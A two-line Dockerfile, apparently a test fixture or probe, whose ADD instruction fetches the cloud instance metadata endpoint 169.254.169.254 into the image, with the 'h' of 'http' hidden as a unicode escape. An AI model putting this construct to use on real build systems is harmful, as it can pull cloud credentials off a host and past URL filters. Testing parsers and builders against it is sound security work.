FROM busybox
ADD ["\u0068ttp://169.254.169.254/", "/x"]
